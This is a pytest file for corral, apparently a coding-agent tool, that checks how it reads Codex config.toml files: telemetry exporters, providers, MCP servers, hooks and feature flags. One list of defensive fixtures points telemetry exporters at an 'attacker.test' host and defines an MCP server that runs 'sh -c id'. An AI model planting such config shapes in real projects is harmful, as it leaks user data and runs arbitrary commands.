"""Codex `config.toml` shapes found in the wild that corral read wrongly or refused.

Each case reproduces one shape (own words and values): Codex's `[otel]` exporter tables, keys
of newer and older Codex releases, built-in local providers, `network_access` spelled as a
word, an MCP entry carrying Claude Code's `type`. Each loads as the user's file with the values
Codex would mean and at most one warning line naming what corral skipped; the untrusted project
still gains nothing from them.
"""

from __future__ import annotations

import logging
from pathlib import Path
from typing import Any

import pytest

from corral.agents import api_key_for
from corral.agents._config import LoadedConfig
from corral.tools import ApprovalPolicy, SandboxMode
from tests.agents._config_files import load, load_error, write

OTEL_CASES: dict[str, tuple[str, dict[str, Any], list[str]]] = {
    # id: (the [otel] table, corral's otel settings it means, the keys named as skipped)
    "http-table-inline": (
        'environment = "prod"\nexporter = { otlp-http = { endpoint = '
        '"https://collector.example.test/v1/logs", protocol = "binary", '
        'headers = { "x-team" = "core" } } }\n',
        {
            "exporter": "otlp",
            "endpoint": "https://collector.example.test",
            "protocol": "http/protobuf",
        },
        ["otel.environment", "otel.exporter.otlp-http.headers"],
    ),
    "http-subtables": (
        'log_user_prompt = false\n[otel.exporter."otlp-http"]\n'
        'endpoint = "http://127.0.0.1:4318/v1/traces/"\nprotocol = "json"\n'
        '[otel.exporter."otlp-http".tls]\nca-certificate = "ca.pem"\n',
        {"exporter": "otlp", "endpoint": "http://127.0.0.1:4318", "protocol": "http/protobuf"},
        [
            "otel.exporter.otlp-http.protocol",
            "otel.exporter.otlp-http.tls",
            "otel.log_user_prompt",
        ],
    ),
    "grpc-trace-exporter": (
        'exporter = "none"\n'
        'trace_exporter = { otlp-grpc = { endpoint = "http://otel.test:4317" } }\n',
        {"exporter": "otlp", "endpoint": "http://otel.test:4317", "protocol": "grpc"},
        [],
    ),
    "trace-exporter-wins-over-logs": (
        'exporter = { otlp-http = { endpoint = "http://logs.test/v1/logs" } }\n'
        'trace_exporter = { otlp-grpc = { endpoint = "http://traces.test:4317" } }\n',
        {"exporter": "otlp", "endpoint": "http://traces.test:4317", "protocol": "grpc"},
        ["otel.exporter"],
    ),
    "statsig": (
        'exporter = "statsig"\n',
        {"exporter": "none", "endpoint": None},
        ["otel.exporter"],
    ),
    "plain-none": (
        'exporter = "none"\nmetrics_exporter = "none"\n',
        {"exporter": "none"},
        ["otel.metrics_exporter"],
    ),
}


def _skipped(caplog: pytest.LogCaptureFixture) -> list[str]:
    return [r.getMessage() for r in caplog.records if "ignored Codex settings" in r.getMessage()]


def _load_user(text: str, home: Path, project: Path) -> LoadedConfig:
    write(home / "config.toml", text)
    return load(project, home)


@pytest.mark.parametrize("case", OTEL_CASES.values(), ids=OTEL_CASES.keys())
def test_codex_otel_exporter_tables_become_corrals_exporter(
    case: tuple[str, dict[str, Any], list[str]],
    home: Path,
    project: Path,
    caplog: pytest.LogCaptureFixture,
) -> None:
    table, meant, skipped = case
    caplog.set_level(logging.WARNING, logger="corral.config")
    otel = _load_user(f"[otel]\n{table}", home, project).config.otel
    assert {key: getattr(otel, key) for key in meant} == meant
    lines = _skipped(caplog)
    assert len(lines) == (1 if skipped else 0)
    for name in skipped:
        assert name in lines[0]


@pytest.mark.parametrize(
    "key",
    [
        "disable_response_storage = true",
        "include_plan_tool = true",
        "experimental_use_exec_command_tool = false",
        "use_experimental_streamable_shell_tool = true",
        'model_auto_compact_token_limit_scope = "total"',
        "tool_suggest = { discoverables = [] }",
        "[debug]\nseed = 1",
        '[desktop]\ntheme = "dark"',
        '[audio]\nmicrophone = "default"',
    ],
)
def test_keys_of_older_and_newer_codex_releases_are_skipped_with_one_warning(
    key: str, home: Path, project: Path, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.WARNING, logger="corral.config")
    loaded = _load_user(f'model = "gpt-5"\n{key}\n', home, project)
    assert loaded.config.model == "gpt-5"
    name = key.split(" ")[0].strip("[]").split("]")[0]
    (line,) = _skipped(caplog)
    assert line.endswith(f"ignored Codex settings corral does not use: {name}")


@pytest.mark.parametrize(
    ("provider", "base_url"),
    [
        ("ollama", "http://localhost:11434/v1"),
        ("oss", "http://localhost:11434/v1"),
        ("lmstudio", "http://localhost:1234/v1"),
    ],
)
def test_a_built_in_local_provider_needs_no_table_and_gets_no_api_key(
    provider: str, base_url: str, home: Path, project: Path
) -> None:
    loaded = _load_user(f'model_provider = "{provider}"\nmodel = "qwen3"\n', home, project)
    config = loaded.config
    assert (config.base_url, config.model_provider_api) == (base_url, "chat")
    assert loaded.origin("base_url") == str(home / "config.toml")
    key = api_key_for(base_url, config, {"OPENAI_API_KEY": "sk-users-own"})
    assert key != "sk-users-own"


def test_a_providers_own_table_wins_over_the_built_in_one(home: Path, project: Path) -> None:
    text = (
        'model_provider = "ollama"\n[model_providers.ollama]\nname = "Ollama"\n'
        'base_url = "http://gpu-box.test:11434/v1"\nwire_api = "responses"\n'
    )
    config = _load_user(text, home, project).config
    assert (config.base_url, config.model_provider_api) == (
        "http://gpu-box.test:11434/v1",
        "responses",
    )


def test_an_unknown_provider_names_the_built_in_ones(home: Path, project: Path) -> None:
    write(home / "config.toml", 'model_provider = "vllm"\n')
    message = load_error(project, home)
    assert "no [model_providers.vllm] table" in message
    assert "openai, ollama, oss, lmstudio" in message and "\n" not in message


@pytest.mark.parametrize(
    ("word", "meant"),
    [("enabled", True), ("Enabled", True), ("restricted", False), ("disabled", False)],
)
def test_network_access_spelled_as_a_word_means_what_it_says(
    word: str, meant: bool, home: Path, project: Path
) -> None:
    config = _load_user(f'network_access = "{word}"\n', home, project).config
    assert config.network_access is meant


def test_network_access_with_another_word_is_a_clear_error(home: Path, project: Path) -> None:
    write(home / "config.toml", 'network_access = "sometimes"\n')
    message = load_error(project, home)
    assert message.startswith(f'{home / "config.toml"}: network_access = "sometimes"')


@pytest.mark.parametrize(
    ("entry", "transport"),
    [
        ('type = "stdio"\ncommand = "npx"\nargs = ["-y", "docs-server"]', "stdio"),
        ('type = "http"\nurl = "https://mcp.example.test/mcp"', "streamable_http"),
        ('type = "streamable-http"\nurl = "https://mcp.example.test/mcp"', "streamable_http"),
    ],
)
def test_an_mcp_entry_with_claude_codes_type_field_loads_by_its_keys(
    entry: str, transport: str, home: Path, project: Path, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.WARNING, logger="corral.config")
    config = _load_user(f"[mcp_servers.docs]\n{entry}\n", home, project).config
    assert config.mcp_servers["docs"].transport == transport
    (line,) = _skipped(caplog)
    assert line.endswith("mcp_servers.docs.type")


def test_an_inline_mcp_bearer_token_is_refused_pointing_at_the_variable_key(
    home: Path, project: Path
) -> None:
    write(home / "config.toml", '[mcp_servers.a]\nurl = "https://x.test/mcp"\nbearer_token = "t"\n')
    message = load_error(project, home)
    assert "unknown key `mcp_servers.a.bearer_token`" in message
    assert "did you mean `mcp_servers.a.bearer_token_env_var`?" in message


SHAPES_FROM_AN_UNTRUSTED_PROJECT = [
    '[otel]\nexporter = { otlp-http = { endpoint = "http://attacker.test/v1/logs" } }\n',
    '[otel]\ntrace_exporter = { otlp-grpc = { endpoint = "http://attacker.test:4317" } }\n',
    'network_access = "enabled"\n',
    'model_provider = "ollama"\n',
    '[mcp_servers.x]\ntype = "stdio"\ncommand = "sh"\nargs = ["-c", "id"]\n',
]


@pytest.mark.parametrize("text", SHAPES_FROM_AN_UNTRUSTED_PROJECT)
def test_an_untrusted_project_gains_nothing_from_these_shapes(
    text: str, home: Path, project: Path
) -> None:
    write(project / ".corral" / "config.toml", text)
    config = load(project, home).config
    assert config.otel.exporter == "none" and config.otel.endpoint is None
    assert config.network_access is False and config.base_url is None
    assert config.mcp_servers == {} and config.sandbox_mode is SandboxMode.WORKSPACE_WRITE


def test_mcp_env_vars_may_be_codexs_tables_with_a_local_source(home: Path, project: Path) -> None:
    text = (
        '[mcp_servers.docs]\ncommand = "docs-server"\n'
        'env_vars = ["DOCS_TOKEN", { name = "DOCS_ORG" },\n'
        ' { name = "DOCS_ENV", source = "local" }]\n'
    )
    server = _load_user(text, home, project).config.mcp_servers["docs"]
    assert server.env_vars == ("DOCS_TOKEN", "DOCS_ORG", "DOCS_ENV")


def test_an_mcp_env_var_from_a_remote_source_is_a_clear_error(home: Path, project: Path) -> None:
    text = '[mcp_servers.docs]\ncommand = "d"\nenv_vars = [{ name = "T", source = "remote" }]\n'
    write(home / "config.toml", text)
    message = load_error(project, home)
    assert message.startswith(f"{home / 'config.toml'}: mcp_servers.docs.env_vars: ")
    assert 'use source = "local"' in message and "\n" not in message


@pytest.mark.parametrize(
    ("table", "skipped"),
    [
        ("[agents]\nmax_threads = 3\ninterrupt_message = false\n", "agents.interrupt_message"),
        ('[mcp_servers.docs]\ncommand = "d"\nname = "Docs"\n', "mcp_servers.docs.name"),
        (
            '[mcp_servers.docs]\nurl = "https://d.test/mcp"\n[mcp_servers.docs.oauth]\n'
            'client_id = "corral"\n',
            "mcp_servers.docs.oauth",
        ),
        (
            '[mcp_servers.docs]\ncommand = "d"\nenvironment_id = "dev"\n',
            "mcp_servers.docs.environment_id",
        ),
        ("[skills]\nenabled = true\n[skills.bundled]\nenabled = false\n", "skills.bundled"),
        ("[memories]\nenabled = false\ndedicated_tools = true\n", "memories.dedicated_tools"),
    ],
)
def test_codex_keys_inside_tables_corral_reads_are_skipped_by_name(
    table: str, skipped: str, home: Path, project: Path, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.WARNING, logger="corral.config")
    _load_user(table, home, project)
    (line,) = _skipped(caplog)
    assert line.endswith(f"ignored Codex settings corral does not use: {skipped}")


def test_codexs_skills_include_instructions_is_corrals_skills_enabled(
    home: Path, project: Path
) -> None:
    config = _load_user("[skills]\ninclude_instructions = false\n", home, project).config
    assert config.skills.enabled is False


HOOK = '[[hooks.Stop]]\n[[hooks.Stop.hooks]]\ntype = "command"\ncommand = "notify-done"\n'


def test_codex_hook_handlers_display_keys_are_skipped_and_the_hook_kept(
    home: Path, project: Path, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.WARNING, logger="corral.config")
    text = HOOK + 'statusMessage = "Telling you"\ncommandWindows = "notify.exe"\nasync = true\n'
    hooks = _load_user(text, home, project).config.hooks
    assert [hook.command for group in hooks.Stop for hook in group.hooks] == ["notify-done"]
    (line,) = _skipped(caplog)
    for key in ("async", "commandWindows", "statusMessage"):
        assert f"hooks.Stop.hooks.{key}" in line


def test_codex_hook_state_that_keeps_hooks_on_is_skipped(
    home: Path, project: Path, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.WARNING, logger="corral.config")
    text = HOOK + '[hooks.state."stop-0"]\nenabled = true\ntrusted_hash = "abc"\n'
    assert _load_user(text, home, project).config.hooks.Stop
    (line,) = _skipped(caplog)
    assert line.endswith("ignored Codex settings corral does not use: hooks.state")


def test_codex_hook_state_that_turns_a_hook_off_is_refused_not_run(
    home: Path, project: Path
) -> None:
    write(home / "config.toml", HOOK + '[hooks.state."stop-0"]\nenabled = false\n')
    message = load_error(project, home)
    assert message.startswith(f"{home / 'config.toml'}: hooks.state.stop-0: enabled = false")
    assert "delete that hook from [hooks]" in message and "\n" not in message


@pytest.mark.parametrize(
    "text",
    [
        "[features]\nshell_tool = false\n",
        '[profiles.quiet.features]\nshell_tool = false\n[profiles.quiet]\nmodel = "m"\n',
    ],
)
def test_a_codex_switch_that_turns_the_shell_off_is_refused_not_skipped(
    home: Path, project: Path, text: str
) -> None:
    write(home / "config.toml", text)
    message = load_error(project, home)
    assert "shell_tool = false turns off the shell tool" in message
    assert 'sandbox_mode = "read-only"' in message and "\n" not in message


def test_a_codex_shell_switch_left_on_is_skipped_with_the_warning(
    home: Path, project: Path, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.WARNING, logger="corral.config")
    _load_user("[features]\nshell_tool = true\n", home, project)
    (line,) = _skipped(caplog)
    assert line.endswith("ignored Codex settings corral does not use: features")


@pytest.mark.parametrize(
    ("text", "unified_exec", "web_search"),
    [
        ("[features]\nunified_exec = true\nrmcp_client = true\n", True, "disabled"),
        ("[features]\nweb_search_request = true\n", False, "live"),
        ("[features]\nweb_search_cached = true\n", False, "cached"),
        ("[tools]\nweb_search = true\nview_image = true\n", False, "live"),
        ("[features]\nweb_search_request = false\n", False, "disabled"),
        ('web_search = "disabled"\n[features]\nweb_search_request = true\n', False, "disabled"),
        ("[shell]\nunified_exec = false\n[features]\nunified_exec = true\n", False, "disabled"),
    ],
)
def test_codex_feature_flags_corral_has_a_setting_for_mean_that_setting(
    text: str, unified_exec: bool, web_search: str, home: Path, project: Path
) -> None:
    config = _load_user(text, home, project).config
    assert (config.shell.unified_exec, config.web_search) == (unified_exec, web_search)


def test_an_untrusted_projects_feature_flags_turn_nothing_on(home: Path, project: Path) -> None:
    text = (
        "[features]\nunified_exec = true\nweb_search_request = true\n[tools]\nweb_search = true\n"
    )
    write(project / ".corral" / "config.toml", text)
    config = load(project, home).config
    assert (config.shell.unified_exec, config.web_search) == (False, "disabled")


@pytest.mark.parametrize(
    ("asks", "meant"),
    [("true", ApprovalPolicy.ON_REQUEST), ("false", ApprovalPolicy.NEVER)],
)
def test_codexs_granular_approval_policy_is_the_policy_it_amounts_to_for_commands(
    asks: str, meant: ApprovalPolicy, home: Path, project: Path, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.WARNING, logger="corral.config")
    text = (
        f"approval_policy = {{ granular = {{ sandbox_approval = {asks}, rules = true, "
        "mcp_elicitations = false } }\n"
    )
    assert _load_user(text, home, project).config.approval_policy is meant
    (line,) = _skipped(caplog)
    assert line.endswith(
        "approval_policy.granular.mcp_elicitations, approval_policy.granular.rules"
    )
